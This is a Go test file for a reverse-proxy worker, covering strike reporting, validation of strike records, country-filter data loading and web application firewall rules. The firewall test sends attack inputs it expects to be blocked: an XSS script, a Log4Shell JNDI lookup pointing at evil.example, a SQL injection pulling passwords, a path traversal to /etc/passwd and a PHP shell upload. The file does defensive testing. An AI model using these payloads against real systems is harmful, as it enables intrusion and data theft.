package worker

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/platformd/platformd/firewall/geo"
	"github.com/platformd/platformd/firewall/ranges"
	"github.com/platformd/platformd/proxy"
	"github.com/platformd/platformd/proxy/limits"
	"github.com/platformd/platformd/proxy/waf"
)

// TestWebReportsStrikes: what a client does in the worker reaches the daemon, and what the worker says otherwise does not.
func TestWebReportsStrikes(t *testing.T) {
	s := newWebSite(t)
	var mu sync.Mutex
	var got []limits.Strike
	s.cfg.Strike = func(_ context.Context, x limits.Strike) {
		mu.Lock()
		defer mu.Unlock()
		got = append(got, x)
	}
	b := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(401) }))
	t.Cleanup(b.Close)
	p := s.start(b.URL)
	c := s.client(false)
	for range 7 {
		resp, err := c.Post("https://a.test/login?password=secret", "text/plain", strings.NewReader("secret"))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
	}
	s.until("two strikes are told", func() bool {
		mu.Lock()
		defer mu.Unlock()
		return len(got) == 2
	})
	if want := (limits.Strike{Client: netip.MustParseAddr("127.0.0.1"), Reason: "http-auth", Detail: "POST a.test/login 401"}); got[0] != want {
		t.Errorf("got %+v, want %+v", got[0], want)
	}
	st, err := p.Status(t.Context())
	if err != nil || st.Stats.FailedAuth != 7 || st.Stats.Limits.Strikes != 2 {
		t.Errorf("got %+v, %v", st, err)
	}
}

func TestStrikesAreNotBelieved(t *testing.T) {
	now := time.Unix(1000, 0)
	for text, want := range map[string]bool{
		`{"client":"192.0.2.7","reason":"http-auth","detail":"x"}`:                                    true,
		`{"client":"::ffff:192.0.2.7","reason":"http-scan","detail":"a` + "\\u001b\\n\\u0000" + `b"}`: true,
		`{"client":"2001:db8::1","reason":"http-limit"}`:                                              true,
		`{"client":"192.0.2.7","reason":"sshd","detail":"x"}`:                                         false,
		`{"client":"192.0.2.7/8","reason":"http-auth"}`:                                               false,
		`{"client":"fe80::1%eth0","reason":"http-auth"}`:                                              false,
		`{"client":"","reason":"http-auth"}`:                                                          false,
		`{"reason":"http-auth"}`:                                                                      false,
		`[]`:                                                                                          false,
		`{"client":"192.0.2.7","reason":"http-auth","detail":"` + strings.Repeat("x", 4*maxText) + `"}`: false,
	} {
		var s strikeTaker
		x, ok, err := s.take(json.RawMessage(text), now)
		if ok != want || (err == nil) != want {
			t.Errorf("%.80s: got %+v, %v, %v", text, x, ok, err)
		}
		if strings.ContainsAny(x.Detail, "\x1b\n\x00") || x.Client.Is4In6() {
			t.Errorf("%.80s: got %+q", text, x)
		}
	}
	var s strikeTaker
	taken := 0
	for range 10_000 {
		if _, ok, _ := s.take(json.RawMessage(`{"client":"192.0.2.7","reason":"http-auth"}`), now); ok {
			taken++
		}
	}
	if taken != strikeRate.Burst {
		t.Errorf("%d strikes were taken at once, want %d", taken, strikeRate.Burst)
	}
}

// database is country data that has loopback in one country.
func database(t *testing.T, cc string) []byte {
	t.Helper()
	f, err := os.CreateTemp(t.TempDir(), "")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := geo.Encode(f, func(yield func(geo.Record, error) bool) {
		yield(geo.Record{Range: ranges.Of(netip.MustParsePrefix("127.0.0.0/8")), Country: geo.Code{cc[0], cc[1]}}, nil)
	}); err != nil {
		t.Fatal(err)
	}
	return must(os.ReadFile(f.Name()))
}

// TestWebCountries: data comes to a worker that runs, in the place of the data before, and survives the daemon; what could be
// changed, or is none, is not taken.
func TestWebCountries(t *testing.T) {
	s := newWebSite(t)
	p := s.start(backend(t).URL)
	conf := proxy.Config{Routes: []proxy.Route{{Host: "a.test", Backend: backend(t).URL, Countries: &proxy.Countries{Allow: []string{"DE"}}}}}
	if err := p.Configure(t.Context(), conf); err != nil {
		t.Fatal(err)
	}
	c := s.client(true)
	expect := func(what, want string) {
		t.Helper()
		if _, err := say(c); want == "" && err != nil || want != "" && (err == nil || !strings.Contains(err.Error(), want)) {
			t.Errorf("%s: got %v, want %q", what, err, want)
		}
	}
	bring := func(b []byte) error {
		f, err := SealCountries(bytes.NewReader(b))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		return p.Countries(t.Context(), f, "digest")
	}
	expect("without data", "403")
	for cc, want := range map[string]string{"DE": "", "US": "403"} {
		if err := bring(database(t, cc)); err != nil {
			t.Fatal(err)
		}
		expect(cc, want)
	}
	if err := bring(database(t, "DE")); err != nil {
		t.Fatal(err)
	}
	if err := bring([]byte("no such thing")); err == nil {
		t.Error("data that is none was taken")
	}
	fd, err := unix.MemfdCreate("x", unix.MFD_CLOEXEC|unix.MFD_ALLOW_SEALING)
	if err != nil {
		t.Fatal(err)
	}
	open := os.NewFile(uintptr(fd), "x")
	defer open.Close()
	io.Copy(open, bytes.NewReader(database(t, "US")))
	if err := p.Countries(t.Context(), open, "digest"); err == nil {
		t.Error("data that can be changed was taken")
	}
	expect("after bad data", "")
	// The daemon that brought it is gone, and the next one needs not bring it again.
	p.link.Run(canceled())
	<-p.Gone()
	expect("without a daemon", "")
	found := AdoptWeb(t.Context(), s.cfg)
	if len(found) != 1 {
		t.Fatalf("adopted %d", len(found))
	}
	closeSockets(found[0].Sockets)
	expect("with the next daemon", "")
}

// TestWebFirewallForApplications: the engine and its rules work without privileges and without a file system.
func TestWebFirewallForApplications(t *testing.T) {
	s := newWebSite(t)
	forms := filepath.Join(s.cfg.WorkDir, formsDir)
	if err := errors.Join(os.Mkdir(forms, 0o700), os.WriteFile(forms+"/crzmp1", nil, 0o600), os.Chtimes(forms+"/crzmp1", time.Unix(1, 0), time.Unix(1, 0)), os.Chown(forms, nobody, nobody)); err != nil {
		t.Fatal(err)
	}
	p := s.start(backend(t).URL)
	if err := p.Configure(t.Context(), proxy.Config{Routes: []proxy.Route{{Host: "a.test", Backend: backend(t).URL, WAF: &waf.Config{}}}}); err != nil {
		t.Fatal(err)
	}
	c := s.client(true)
	const form = "multipart/form-data; boundary=xyz"
	part := "--xyz\r\nContent-Disposition: form-data; name=\"f\"; filename=\"photo.jpg\"\r\nContent-Type: image/jpeg\r\n\r\nhello\r\n--xyz--\r\n"
	for _, tt := range []struct {
		uri, kind, body string
		want            int
	}{
		{"/", "", "", 200}, {"/", form, part, 200}, {"/", form, strings.Replace(part, "photo.jpg", "shell.php", 1), 403},
		{"/?q=%3Cscript%3Ealert(1)%3C/script%3E", "", "", 403}, {"/?x=$%7Bjndi:ldap://evil.example/a%7D", "", "", 403},
		{"/", "application/x-www-form-urlencoded", "id=1+UNION+SELECT+password+FROM+users--", 403}, {"/?f=../../../etc/passwd", "", "", 403},
	} {
		method := "POST"
		if tt.body == "" {
			method = "GET"
		}
		req, err := http.NewRequestWithContext(t.Context(), method, "https://a.test"+tt.uri, strings.NewReader(tt.body))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Accept", "*/*")
		req.Header.Set("User-Agent", "Mozilla/5.0")
		if tt.kind != "" {
			req.Header.Set("Content-Type", tt.kind)
		}
		resp, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != tt.want {
			t.Errorf("%s %q: got %d, want %d", tt.uri, tt.body, resp.StatusCode, tt.want)
		}
	}
	if left, err := os.ReadDir(forms); err != nil || len(left) != 0 {
		t.Errorf("left behind: %v, %v", left, err)
	}
}

func FuzzStrike(f *testing.F) {
	f.Add([]byte(`{"client":"192.0.2.7","reason":"http-auth","detail":"GET a.test/x 401"}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		var s strikeTaker
		x, ok, err := s.take(data, time.Unix(1, 0))
		if ok && (!x.Client.IsValid() || x.Client.Zone() != "" || x.Detail != clean(x.Detail) || err != nil) || !ok && x != (limits.Strike{}) {
			t.Errorf("got %+v, %v, %v", x, ok, err)
		}
	})
}
